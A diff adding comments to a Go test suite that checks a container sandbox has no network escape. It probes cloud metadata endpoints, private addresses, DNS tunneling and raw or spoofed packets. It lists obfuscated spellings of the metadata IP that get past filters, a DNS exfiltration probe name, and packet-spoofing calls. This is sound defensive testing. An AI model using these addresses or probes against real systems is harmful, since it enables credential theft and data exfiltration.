@@ -13,29 +13,40 @@ import (
 	"berth/proto"
 )
 
+// Each container has a network namespace with loopback alone, and no link to any other; gVisor has its own
+// stack with none either. A way out would lead to the operator's network, with the operator's addresses.
 // Groups 36, 37 and 40: a container has no network, so there is nothing that it could reach.
 var _ = register(
+	// The metadata service of a cloud (169.254.169.254) gives credentials to whoever asks from the
+	// machine: the Capital One breach of 2019 began so.
 	attempts(Case{
 		Group: 36, Name: "network/addresses",
 		Tries: "connect from inside to metadata services in all spellings, link-local, private and carrier addresses, gateways and multicast, over TCP and UDP",
 		Wants: "there is no way to any of them",
 	}, asBoth, addressAttempts),
+	// The daemon listens on loopback of the host, which must be another one than the container's.
 	Case{
 		Group: 36, Name: "network/daemon", Inside: true,
 		Tries: "connect from inside to the daemon's own port on every address of loopback and of its host name",
 		Wants: "nothing listens there",
 		Run:   daemonPort,
 	},
+	// With an interface a container could be given addresses, and speak to the host's network as a machine
+	// of its own.
 	attempts(Case{
 		Group: 36, Name: "network/interfaces",
 		Tries: "find an interface, a route or an address beside loopback, and make one",
 		Wants: "there is none, and none can be made",
 	}, asBoth, interfaceAttempts),
+	// Names carry data out where connections are shut: a resolver passes on what it is asked (DNS
+	// tunnels).
 	attempts(Case{
 		Group: 37, Name: "network/names",
 		Tries: "resolve names through every usual resolver, and send queries that carry data to public ones, over UDP, TCP, DoT and DoH",
 		Wants: "no name resolves and no query leaves",
 	}, asBoth, nameAttempts),
+	// Raw sockets forge senders and answer for others: ARP and DHCP decide where a network's traffic goes
+	// (CVE-2020-14386 began with a packet socket).
 	attempts(Case{
 		Group: 40, Name: "network/packets",
 		Tries: "send raw, spoofed, broadcast and ARP packets, and answer DHCP",
@@ -43,9 +54,13 @@ var _ = register(
 	}, asBoth, packetAttempts),
 )
 
+// addressAttempts dial and, for UDP, send: a UDP socket "connects" without asking anybody, if there is a
+// route.
 func addressAttempts() []attempt {
 	var all []attempt
 	for _, host := range []string{
+		// The same address in forms that filters of text have let through: mapped and translated IPv6,
+		// octal, decimal, hexadecimal and shortened.
 		"169.254.169.254", "169.254.170.2", "[fd00:ec2::254]", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "100.100.100.200", "168.63.129.16",
 		"192.0.0.192", "10.0.0.1", "10.0.2.2", "172.16.0.1", "172.17.0.1", "192.168.0.1", "192.168.122.1", "100.64.0.1", "198.18.0.1", "[fe80::1]", "[fe80::1%25lo]", "[fc00::1]",
 		"224.0.0.1", "[ff02::1]", "255.255.255.255", "8.8.8.8", "1.1.1.1", "[2606:4700:4700::1111]", "0251.0376.0251.0376", "2852039166", "0xa9fea9fe", "169.254.43518",
@@ -65,6 +80,7 @@ func addressAttempts() []attempt {
 	return all
 }
 
+// daemonPort uses the daemon's real port, so that an answer is the daemon's.
 func daemonPort(ctx context.Context, t *Target) (string, error) {
 	con, err := t.Container(ctx, proto.CreateContainer{})
 	if err != nil {
@@ -79,6 +95,8 @@ func daemonPort(ctx context.Context, t *Target) (string, error) {
 		port = map[string]string{"http": "80", "https": "443"}[u.Scheme]
 	}
 	var found []string
+	// 0.0.0.0 and :: mean this machine to the kernel; host.docker.internal is the host's name under
+	// another engine.
 	if err := t.Probe(ctx, con.ID, "", "connect", &found, port, "127.0.0.1", "127.0.0.2", "127.255.255.254", "::1", "0.0.0.0", "::", "localhost", u.Hostname(), "host.docker.internal"); err != nil {
 		return "", err
 	}
@@ -88,6 +106,7 @@ func daemonPort(ctx context.Context, t *Target) (string, error) {
 	return "port " + port + " answers at none of them", nil
 }
 
+// connect prints the hosts that took a connection.
 var _ = addProbe("connect", func(args []string) (any, error) {
 	found := []string{}
 	for _, host := range args[1:] {
@@ -100,6 +119,8 @@ var _ = addProbe("connect", func(args []string) (any, error) {
 	return found, nil
 })
 
+// interfaceAttempts ask the kernel by netlink, as ip(8) does; its routing family is open, for looking
+// alone.
 func interfaceAttempts() []attempt {
 	return []attempt{
 		{"an interface", func() error {
@@ -138,6 +159,7 @@ func interfaceAttempts() []attempt {
 	}
 }
 
+// The message is written by hand: 16 bytes of a netlink header, and an empty ifinfomsg.
 // addDummy asks routing netlink for a new interface. The answer is a message with an error number.
 func addDummy(fd int) error {
 	msg := make([]byte, 32)
@@ -145,6 +167,7 @@ func addDummy(fd int) error {
 	if err := unix.Sendto(fd, msg, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
 		return err
 	}
+	// No answer within that time is a refusal, too.
 	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 3})
 	buf := make([]byte, 4096)
 	n, err := unix.Read(fd, buf)
@@ -157,11 +180,15 @@ func addDummy(fd int) error {
 	return nil
 }
 
+// nameAttempts use the resolver that commands have, and then queries of their own, without any resolver in
+// between.
 func nameAttempts() []attempt {
 	var all []attempt
 	for _, name := range []string{"example.com", "example.com.", "secret.exfiltrated.example.com", "metadata.google.internal", "169.254.169.254.nip.io", "xn--e1afmkfd.example"} {
 		all = append(all, attempt{"resolve " + name, func() error { _, err := net.LookupHost(name); return err }})
 	}
+	// 127.0.0.53 and 127.0.0.11 are resolvers that other systems put there; 10.96.0.10 is that of many
+	// clusters.
 	for _, server := range []string{"127.0.0.1:53", "127.0.0.53:53", "127.0.0.11:53", "8.8.8.8:53", "1.1.1.1:853", "1.1.1.1:443", "[2001:4860:4860::8888]:53", "10.96.0.10:53", "224.0.0.251:5353"} {
 		for _, network := range []string{"udp", "tcp"} {
 			all = append(all, attempt{network + " query to " + server, func() error { return query(network, server) }})
@@ -170,6 +197,7 @@ func nameAttempts() []attempt {
 	return all
 }
 
+// A connection alone proves nothing over UDP; an answer does.
 // query sends a DNS query and waits for an answer.
 func query(network, server string) error {
 	conn, err := net.DialTimeout(network, server, 3*time.Second)
@@ -178,6 +206,7 @@ func query(network, server string) error {
 	}
 	defer conn.Close()
 	_ = conn.SetDeadline(time.Now().Add(time.Second))
+	// A question for the address of example.com, as on the wire.
 	if _, err := conn.Write([]byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01")); err != nil {
 		return err
 	}
@@ -185,6 +214,7 @@ func query(network, server string) error {
 	return err
 }
 
+// packetAttempts need CAP_NET_RAW, except for the last two.
 func packetAttempts() []attempt {
 	send := func(what string, family, kind, protocol int, to unix.Sockaddr) attempt {
 		return attempt{what, func() error {
@@ -199,6 +229,7 @@ func packetAttempts() []attempt {
 	}
 	broadcast := [4]byte{255, 255, 255, 255}
 	return []attempt{
+		// Ethernet's protocol numbers stand in network order: 0x0806 is ARP.
 		send("ARP", unix.AF_PACKET, unix.SOCK_RAW, 0x0608, &unix.SockaddrLinklayer{Ifindex: 1}),
 		send("a packet of any kind", unix.AF_PACKET, unix.SOCK_DGRAM, 0x0300, &unix.SockaddrLinklayer{Ifindex: 1}),
 		send("a spoofed source", unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, &unix.SockaddrInet4{Addr: [4]byte{10, 0, 0, 1}}),
